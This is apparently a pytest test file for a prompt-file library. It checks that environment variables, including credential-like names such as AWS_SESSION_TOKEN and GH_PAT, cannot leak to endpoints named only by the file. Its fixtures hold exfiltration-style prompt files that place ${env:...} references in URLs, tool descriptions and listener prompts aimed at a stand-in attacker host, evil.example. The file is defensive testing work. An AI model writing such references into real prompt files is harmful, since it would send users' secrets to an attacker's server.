"""Values of the environment in a prompt (F14): no server that only the file names gets to see one."""

import asyncio
import json
import os
import re
from base64 import b64decode
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from hypothesis import given, strategies as st
from typer.testing import CliRunner

from prompty import PromptAgent, Registry, check, invoke, invoke_async, load, loads, turn
from prompty.cli.app import app
from prompty.durable.secrets import extract_secrets, restore_origins, store_origins
from prompty.errors import PromptyError, RequestError, ToolError
from prompty.providers.http.client import _load_certificates
from tests.drivers.clients import close_clients
from tests.drivers.wires import Chat
from tests.internet import Internet, Response

pytestmark = pytest.mark.usefixtures("own_secrets")

VALUE = "planted-4711-value"
FOREIGN = "https://evil.example/v1"
HOSTS = ("evil.example", "*.evil.example", "api.openai.com", "api.groq.com", "tool.example")
# Names of the red team: none but the last two look like a credential.
NAMES = (
    *("DATABASE_URL", "GH_PAT", "SENTRY_DSN", "SLACK_WEBHOOK", "MYPASS", "KUBECONFIG_DATA", "NPM_AUTH", "PGPASS"),
    *("DOCKER_LOGIN", "JWT", "AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN"),
)


class Place(NamedTuple):
    """A place of a file: the frontmatter with `@` for the reference, and a value that fits there."""

    top: str = ""
    id: str = "m"
    options: str = "{}"
    endpoint: str = FOREIGN
    connection: str = "kind: anonymous"
    provider: str = "openai"
    value: str = VALUE


PLACES = {
    "a default": Place("inputs: {q: {kind: string, default: '@'}}"),
    "a plain default": Place("inputs: {q: '@'}"),
    "inside a default": Place("inputs: {q: {kind: string, default: 'a @ b'}}"),
    "a list of defaults": Place("inputs: {q: {kind: array, default: [{a: '@'}]}}"),
    "an input that is named like an address": Place("inputs: {q: {kind: object, default: {endpoint: '@'}}}"),
    "an input that is named like a key": Place("inputs: {q: {kind: object, default: {connection: {apiKey: '@'}}}}"),
    "an option that is named like an address": Place(options="{additionalProperties: {specification: '@'}}"),
    "an option that is named like a key": Place(options="{additionalProperties: {connection: {apiKey: '@'}}}"),
    "the id": Place(id="'@'"),
    "an option": Place(options="{additionalProperties: {user: '@'}}"),
    "the name of a header": Place(options="{additionalProperties: {metadata: {deep: ['@']}}}"),
    "a stop sequence": Place(options="{stopSequences: ['@']}"),
    "a number": Place(options="{maxOutputTokens: '@'}", value="47110815"),
    "a description of a tool": Place("tools: [{name: t, kind: function, description: '@'}]"),
    "a description of a parameter": Place(
        "tools: [{name: t, kind: function, parameters: [{name: p, kind: string, description: '@'}]}]"
    ),
    "an enum of a parameter": Place(
        "tools: [{name: t, kind: function, parameters: [{name: p, kind: string, enumValues: ['@']}]}]"
    ),
    "the name of a tool": Place("tools: [{name: '@', kind: function}]"),
    "a description of an output": Place("outputs: {a: {kind: string, description: '@'}}"),
    "the path of the endpoint": Place(endpoint="https://evil.example/@/v1"),
    "the query of the endpoint": Place(endpoint="https://evil.example/v1?a=@"),
    "the user of the endpoint": Place(endpoint="https://@@evil.example/v1"),
    "a part of the host": Place(endpoint="https://@.evil.example/v1"),
    "the version of the API": Place(
        connection="kind: key, apiKey: of-the-file, apiVersion: '@'", provider="azure", endpoint="https://evil.example"
    ),
    "beside a key of the file": Place(id="'@'", connection="kind: key, apiKey: of-the-file"),
    "a file with data": Place(options="'${file:options.yaml}'"),
}


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    with (
        Internet(tmp_path_factory.mktemp("internet"), HOSTS, Chat().whole('{"a": "Hello"}')) as internet,
        pytest.MonkeyPatch.context() as patch,
    ):
        internet.use(patch.setenv)
        for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY", "PROMPTY_TRUSTED_ENDPOINTS"):
            patch.delenv(name, raising=False)
        _load_certificates.cache_clear()
        yield internet
        close_clients()
    _load_certificates.cache_clear()


@pytest.fixture(autouse=True)
def _begin(internet: Internet) -> None:
    forget(internet)


def forget(internet: Internet) -> None:
    internet.arrivals.clear()
    internet.tunnels.clear()


def seen(internet: Internet) -> str:
    """All that left the process, with the name of a user as it was."""
    users = [arrival.headers.get("authorization", "").removeprefix("Basic ") for arrival in internet.arrivals]
    decoded = [b64decode(user).decode(errors="replace") for user in users if " " not in user]
    return " ".join([*internet.tunnels, *(arrival.text for arrival in internet.arrivals), *decoded])


def write(place: Place, reference: str) -> str:
    parts = (place.top, place.id, place.options, place.endpoint)
    top, id, options, endpoint = (part.replace("@", reference, 1) for part in parts)
    connection = f"{{{place.connection.replace('@', reference)}, endpoint: '{endpoint}'}}"
    model = f"  id: {id}\n  provider: {place.provider}\n  connection: {connection}\n  options: {options}"
    return f"---\nmodel:\n{model}\n{top}\n---\nuser:\nHi {{{{q}}}}"


def call(agent: PromptAgent, asynchronous: bool = False) -> None:
    if asynchronous:
        asyncio.run(invoke_async(agent, max_retries=0))
    else:
        invoke(agent, max_retries=0)


@pytest.mark.parametrize("name", NAMES)
def test_no_name_of_a_variable_makes_it_harmless(
    name: str, internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, VALUE)
    with pytest.raises(RequestError, match=rf"the value of {name} would go to https://evil\.example"):
        call(loads(write(PLACES["a default"], f"${{env:{name}}}")))
    assert not seen(internet)


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_a_value_goes_to_a_foreign_server_only_if_the_host_allows_its_variable(
    place: Place, internet: Internet, tmp_path: Path, asynchronous: bool
) -> None:
    (tmp_path / "options.yaml").write_text("additionalProperties: {user: '${env:TEAM}'}")
    text, env = write(place, "${env:TEAM}"), {"TEAM": place.value}
    with pytest.raises(RequestError, match="the value of TEAM would go to"):
        call(loads(text, base_dir=tmp_path, env=env), asynchronous)
    assert not seen(internet)
    call(loads(text, base_dir=tmp_path, env=env, env_allowed=["TEAM"]), asynchronous)
    assert place.value in seen(internet)


LEGAL = st.text("ABCXYZ_019", min_size=1, max_size=12).filter(lambda name: not name.startswith("PROMPTY"))
ANY_NAME = st.text(st.characters(codec="utf-8", exclude_characters="\0={}:'\\\n\r\x85\u2028\u2029"), min_size=1)
FORMS = ("${env:%s}", "${env:NOT_SET_ANYWHERE:${env:%s}}", "x${env:%s}", "${env:%s:default}")


@given(
    place=st.sampled_from(list(PLACES.values())),
    name=LEGAL | ANY_NAME.map(str.strip).filter(bool),
    form=st.sampled_from(FORMS),
    late=st.booleans(),
)
def test_no_variable_at_any_place_reaches_a_foreign_server(
    internet: Internet, tmp_path_factory: pytest.TempPathFactory, place: Place, name: str, form: str, late: bool
) -> None:
    reference, env = form % name, dict[str, str]()
    folder = tmp_path_factory.getbasetemp()
    (folder / "options.yaml").write_text(json.dumps({"additionalProperties": {"user": reference}}))
    variables = {name: place.value}
    env.update({} if late else variables)
    try:
        agent = loads(write(place, reference), base_dir=folder, env=env)
        env.update(variables)
        call(agent)
    except PromptyError:
        pass
    assert place.value not in seen(internet)


def test_a_variable_of_the_process_counts_like_one_of_the_host(
    internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    text = write(PLACES["the id"], "${env:TEAM}")
    with pytest.raises(RequestError, match="TEAM"):
        call(loads(text))
    monkeypatch.delenv("TEAM")
    agent = loads(text)
    monkeypatch.setenv("TEAM", VALUE)  # after the load
    with pytest.raises(RequestError, match="TEAM"):
        call(agent)
    assert not seen(internet)


ALLOWED = {
    "the provider's own host": ("https://api.openai.com/v1", "kind: key, apiKey: k", {}),
    "an origin of the environment": ("${env:URL}", "kind: anonymous", {}),
    "its path": ("${env:URL}/a/${env:TEAM}", "kind: anonymous", {}),
    "a trusted origin": (FOREIGN, "kind: anonymous", {"trusted_endpoints": ["evil.example"]}),
    "a known server with its own key": ("https://api.groq.com/v1", "kind: key, apiKey: '${env:GROQ_API_KEY}'", {}),
    "a known server with its stored key": ("https://api.groq.com/v1", "kind: key", {}),
    "this machine": ("{internet}", "kind: anonymous", {}),
}


@pytest.mark.parametrize(("endpoint", "connection", "host"), ALLOWED.values(), ids=ALLOWED)
def test_a_value_goes_to_servers_that_may_have_credentials(
    endpoint: str, connection: str, host: dict[str, list[str]], internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in {"TEAM": VALUE, "URL": FOREIGN, "GROQ_API_KEY": "of-groq"}.items():
        monkeypatch.setenv(name, value)
    place = Place(id="'@'", endpoint=endpoint.replace("{internet}", internet.url), connection=connection)
    call(loads(write(place, "${env:TEAM}"), **host))  # type: ignore[arg-type]  # of `loads`, by name
    assert VALUE in seen(internet)


@pytest.mark.parametrize("connection", ["kind: anonymous", "kind: key, apiKey: of-the-attacker"])
def test_a_known_server_gets_no_value_in_the_name_of_somebody_else(connection: str, internet: Internet) -> None:
    place = Place(id="'@'", endpoint="https://api.groq.com/v1", connection=connection)
    with pytest.raises(RequestError, match="TEAM"):
        call(loads(write(place, "${env:TEAM}"), env={"TEAM": VALUE}))
    assert not seen(internet)


def test_a_host_that_is_a_whole_variable_learns_its_own_name(internet: Internet) -> None:
    env = {"HOST_NAME": "evil.example", "TEAM": VALUE}
    call(loads(write(Place(endpoint="https://${env:HOST_NAME}/v1"), ""), env=env))
    assert internet.arrivals
    forget(internet)
    with pytest.raises(RequestError, match="TEAM"):
        call(loads(write(Place(endpoint="https://${env:HOST_NAME}/${env:TEAM}"), ""), env=env))
    assert not seen(internet)


def test_a_value_of_a_dotenv_goes_to_the_origin_of_that_dotenv(internet: Internet) -> None:
    registry = Registry()
    registry.dotenv = {"URL": FOREIGN, "TEAM": VALUE}
    place = Place(id="'@'", endpoint="${env:URL}")
    call(loads(write(place, "${env:TEAM}"), registry=registry))
    assert VALUE in seen(internet)
    registry.dotenv = {"URL": FOREIGN}
    with pytest.raises(RequestError, match=r"which is named only by a \.env file"):
        call(loads(write(place, "${env:TEAM}"), registry=registry, env={"TEAM": VALUE}))


def test_an_origin_of_a_dotenv_gets_no_other_value_after_one_of_its_own(internet: Internet) -> None:
    registry = Registry()
    registry.dotenv = {"URL": FOREIGN, "OWN": "a"}
    place = Place(endpoint="${env:URL}/${env:OWN}/@")
    with pytest.raises(RequestError, match=r"the value of TEAM would go to"):
        call(loads(write(place, "${env:TEAM}"), registry=registry, env={"TEAM": VALUE}))
    assert not seen(internet)


def test_an_allowed_variable_is_still_no_key_for_a_foreign_server(internet: Internet) -> None:
    place = Place(connection="kind: key, apiKey: '@'")
    with pytest.raises(RequestError, match="the credential is from the environment"):
        call(loads(write(place, "${env:MY_KEY}"), env={"MY_KEY": VALUE}, env_allowed=["MY_KEY"]))
    assert not seen(internet)


def test_the_error_names_place_cause_and_the_lines_that_allow_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", VALUE)
    path = tmp_path / "a.prompty"
    path.write_text(write(PLACES["a default"], "${env:DATABASE_URL}"))
    with pytest.raises(RequestError) as caught:
        invoke(path)
    assert str(caught.value).splitlines() == [
        f"{path}:7:37: `inputs.q.default`: the value of DATABASE_URL would go to https://evil.example, "
        "which is named only by the file",
        "    If you trust it, set PROMPTY_TRUSTED_ENDPOINTS=https://evil.example in the environment. "
        "In Python you can also list it in `trusted_endpoints`. Or allow any endpoint to get the value: "
        "--allow-env DATABASE_URL, or load(path, env_allowed=['DATABASE_URL']).",
    ]


@pytest.mark.parametrize("set_variables", [True, False])
def test_check_reports_the_place_offline(
    set_variables: bool, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.prompty"
    found = {}
    for name, place in PLACES.items():
        if set_variables:
            monkeypatch.setenv("TEAM", place.value)
        path.write_text(write(place, "${env:TEAM}"))
        (tmp_path / "options.yaml").write_text("additionalProperties: {user: '${env:TEAM}'}")
        found[name] = [one for one in check(path) if one.code == "untrusted-endpoint"]
    assert {name for name, problems in found.items() if len(problems) != 1} <= (
        set() if set_variables else {"the path of the endpoint"}
    )
    assert found["a default"][0].key == "inputs.q.default"
    assert "--allow-env TEAM" in found["a default"][0].fix
    assert VALUE not in str(found)
    assert not seen(internet)


def test_the_command_allows_a_variable_by_name(
    internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    path = tmp_path / "a.prompty"
    path.write_text(write(PLACES["the id"], "${env:TEAM}"))
    refused = CliRunner().invoke(app, ["run", str(path)])
    assert refused.exit_code == 1
    assert "--allow-env TEAM" in refused.stderr
    assert not seen(internet)
    allowed = CliRunner().invoke(app, ["run", str(path), "--allow-env", "OTHER", "--allow-env", "TEAM"])
    assert allowed.exit_code == 0
    assert "allow-env" not in allowed.stderr  # not even as a warning
    assert VALUE in seen(internet)
    forget(internet)
    assert CliRunner().invoke(app, ["run", str(path)]).exit_code == 1  # it was for that command alone
    assert not seen(internet)


@pytest.mark.parametrize("key", ["env_allowed", "allow-env", "trusted_endpoints"])
def test_a_project_file_cannot_allow_a_variable(
    key: str, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    path = tmp_path / "a.prompty"
    path.write_text(write(PLACES["the id"], "${env:TEAM}"))
    (tmp_path / "prompty.toml").write_text(f'{key} = ["TEAM"]\n')
    result = CliRunner().invoke(app, ["run", str(path)])
    assert result.exit_code == 1
    assert "unknown key" in result.stderr
    assert not seen(internet)


def test_the_cache_of_load_knows_what_is_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    path = tmp_path / "a.prompty"
    path.write_text(write(PLACES["the id"], "${env:TEAM}"))
    os.utime(path, (1, 1))  # old enough to be cached
    assert load(path, env_allowed=["TEAM"]).provenance.exposed == ()
    assert [one.variable for one in load(path).provenance.exposed] == ["TEAM"]


# Ways around the model's own server.

CHILD = """\
---
model: {id: c, connection: {kind: key, apiKey: k, endpoint: 'https://api.openai.com/v1'}}
%s
---
user:
Say {{q}}
"""


@pytest.mark.parametrize("top", ["inputs: {q: '${env:TEAM}'}", "description: '${env:TEAM}'"])
def test_a_prompt_that_runs_as_a_tool_tells_a_foreign_server_no_value(
    top: str, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    (tmp_path / "child.prompty").write_text(CHILD % top)
    tool = "tools: [{name: ask, kind: prompty, path: child.prompty}]"
    for parent in (Place(tool), Place(f"{tool}\nfallbacks: [{{id: f, connection: {{endpoint: '{FOREIGN}'}}}}]")):
        text = write(parent, "")
        if "fallbacks" in parent.top:
            text = text.replace(
                f"kind: anonymous, endpoint: '{FOREIGN}'", "kind: anonymous, endpoint: 'http://[::1]:9'"
            )
        with pytest.raises(RequestError, match="the value of TEAM would go to"):
            turn(loads(text, base_dir=tmp_path), max_retries=0)
        assert not seen(internet)
    turn(loads(write(Place(tool), ""), base_dir=tmp_path, env_allowed=["TEAM"]), max_retries=0)
    assert "evil.example" in seen(internet)


DOCUMENT = {
    "openapi": "3.1.0",
    "info": {"title": "t", "version": "1"},
    "servers": [{"url": "https://tool.example"}],
    "paths": {
        "/say": {"get": {"operationId": "say", "parameters": [{"name": "q", "in": "query", "schema": {}}]}},
    },
}


@pytest.mark.parametrize(
    ("top", "refused"),
    [
        ("inputs: {q: '${env:TEAM}'}", True),
        ("inputs: {q: 'a'}", False),
        ("metadata: {team: '${env:TEAM}'}", False),
    ],
)
def test_a_service_that_the_file_names_gets_nothing_that_the_model_read(
    top: str, refused: bool, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    (tmp_path / "api.json").write_text(json.dumps(DOCUMENT))
    place = Place(
        f"{top}\ntools: [{{name: api, kind: openapi, specification: api.json, connection: {{endpoint: 'https://tool.example'}}}}]",
        connection="kind: key, apiKey: k",
        endpoint="https://api.openai.com/v1",
    )
    agent = loads(write(place, ""), base_dir=tmp_path)
    if refused:
        with pytest.raises(ToolError, match=r"the tool 'api': .*the value of TEAM would go to https://tool\.example"):
            turn(agent, max_retries=0)
        assert not seen(internet)
    else:
        turn(agent, max_retries=0)
        assert internet.arrivals


@pytest.mark.parametrize(
    ("top", "options", "tool"),
    [
        ("inputs: {options: '${env:TEAM}'}", "{}", ""),
        ("", "{additionalProperties: {instructions: '${env:TEAM}'}}", ""),
        (
            "",
            "{}",
            "{name: a, kind: x, options: {b: '${env:TEAM}'}}, {name: c, kind: function, description: '${env:TEAM}'},",
        ),
    ],
    ids=["an input named options", "an additional property", "a tool after its options"],
)
def test_a_service_gets_nothing_that_the_model_read_under_another_name(
    top: str, options: str, tool: str, internet: Internet, tmp_path: Path
) -> None:
    (tmp_path / "api.json").write_text(json.dumps(DOCUMENT))
    service = "{name: api, kind: openapi, specification: api.json, connection: {endpoint: 'https://tool.example'}}"
    place = Place(
        f"{top}\ntools: [{tool}{service}]",
        options=options,
        connection="kind: key, apiKey: k",
        endpoint="https://api.openai.com/v1",
    )
    agent = loads(write(place, ""), base_dir=tmp_path, env={"TEAM": VALUE})
    handlers = {"a": lambda: "", "c": lambda: ""}
    with pytest.raises(ToolError, match=r"the value of TEAM would go to https://tool\.example"):
        turn(agent, tools=handlers, max_retries=0)
    assert not seen(internet)


RELAY = """\
---
model: {id: r, connection: {kind: key, apiKey: k, endpoint: 'https://api.openai.com/v1'}}
tools: [{name: ask, kind: prompty, path: child.prompty}]
---
user:
Ask
"""
LISTENER = """\
---
model: {id: l, connection: {kind: anonymous, endpoint: 'https://evil.example/v1'}}
inputs: {q: {kind: string}}
---
user:
Hear {{q}}
"""


@pytest.mark.parametrize("telling", ["child.prompty", "relay.prompty"])
@pytest.mark.parametrize("first", [True, False], ids=["first", "last"])
@pytest.mark.parametrize(
    "other",
    [
        "{name: api, kind: openapi, specification: api.json, connection: {endpoint: 'https://tool.example'}}",
        "{name: hears, kind: prompty, path: listener.prompty}",
    ],
    ids=["service", "prompt"],
)
def test_what_one_tool_tells_goes_to_no_other_tool_at_a_foreign_server(
    telling: str, other: str, first: bool, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    (tmp_path / "api.json").write_text(json.dumps(DOCUMENT))
    (tmp_path / "child.prompty").write_text(CHILD % "inputs: {q: '${env:TEAM}'}")
    (tmp_path / "relay.prompty").write_text(RELAY)
    (tmp_path / "listener.prompty").write_text(LISTENER)
    tells = f"{{name: tells, kind: prompty, mode: agentic, path: {telling}}}"
    tools = ", ".join([tells, other] if first else [other, tells])
    place = Place(f"tools: [{tools}]", connection="kind: key, apiKey: k", endpoint="https://api.openai.com/v1")
    function = {"name": "hears", "arguments": '{"q": "what the other one told"}'}
    calling = Chat().whole("", "tool_calls", tool_calls=[{"id": "1", "type": "function", "function": function}])
    replies = iter([calling, Chat().whole("Done")])
    monkeypatch.setattr(internet, "answer", lambda _: Response(200, {}, json.dumps(next(replies)).encode()))
    try:
        turn(loads(write(place, ""), base_dir=tmp_path), max_retries=0)
        reason = seen(internet)  # the model reads it
    except ToolError as error:
        reason = str(error)
    assert re.search(r"the value of TEAM would go to https://(tool|evil)\.example", reason)
    assert not any("evil.example" in tunnel for tunnel in internet.tunnels)
    assert VALUE not in seen(internet)


def test_the_client_of_a_service_goes_to_no_foreign_server(tmp_path: Path) -> None:
    (tmp_path / "api.json").write_text(json.dumps(DOCUMENT))
    service = "endpoint: 'https://tool.example', tokenUrl: 'https://tool.example/token'"
    connection = f"{{kind: oauth, clientId: '${{env:TEAM}}', clientSecret: s, {service}}}"
    tool = f"tools: [{{name: api, kind: openapi, specification: api.json, connection: {connection}}}]"
    agent = loads(write(Place(tool), ""), base_dir=tmp_path, env={"TEAM": VALUE})
    with pytest.raises(ToolError, match="the credential is from the environment"):
        turn(agent, max_retries=0)


def test_the_address_of_a_document_holds_no_value(internet: Internet, tmp_path: Path) -> None:
    tool = "tools: [{name: api, kind: openapi, specification: 'https://tool.example/${env:TEAM}.json'}]"
    agent = loads(write(Place(tool), ""), base_dir=tmp_path, env={"TEAM": VALUE})
    with pytest.raises(ToolError, match="the value of TEAM would go to"):
        turn(agent, max_retries=0)
    assert not seen(internet)


SUITE = """\
prompt: tested.prompty
cases:
- inputs: {}
  expect: {live: {%s}}
"""


@pytest.mark.parametrize(
    "check",
    ["judge: listener.prompty, at_least: 1, judge_inputs: {q: a}", "similar: {prompt: listener.prompty, to: a}"],
)
@pytest.mark.parametrize(
    "tested", ["inputs: {q: '${env:TEAM}'}", "tools: [{name: ask, kind: prompty, path: child.prompty}]"]
)
def test_what_a_tested_prompt_answers_goes_to_no_judge_at_a_foreign_server(
    check: str, tested: str, internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "child.prompty").write_text(CHILD % "inputs: {q: '${env:TEAM}'}")
    (tmp_path / "tested.prompty").write_text(CHILD % tested)
    (tmp_path / "listener.prompty").write_text(LISTENER)
    (tmp_path / "tested.test.yaml").write_text(SUITE % check)
    result = CliRunner().invoke(app, ["test", "--live", "tested.test.yaml"])
    assert result.exit_code == 1
    assert "the value of TEAM would go to https://evil.example" in " ".join(result.output.split())
    assert not any("evil.example" in tunnel for tunnel in internet.tunnels)


def test_a_stored_run_keeps_the_rule(internet: Internet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEAM", VALUE)
    path = tmp_path / "a.prompty"
    for place in (PLACES["the id"], PLACES["the path of the endpoint"]):
        path.write_text(write(place, "${env:TEAM}"))
        agent = load(path)
        data, references = extract_secrets(agent, {})
        stored = json.loads(json.dumps(store_origins(agent)))
        restored = agent.model_copy(update={"provenance": restore_origins(stored, data, references)})
        with pytest.raises(RequestError, match="the value of TEAM would go to"):
            invoke(restored)
    assert not seen(internet)
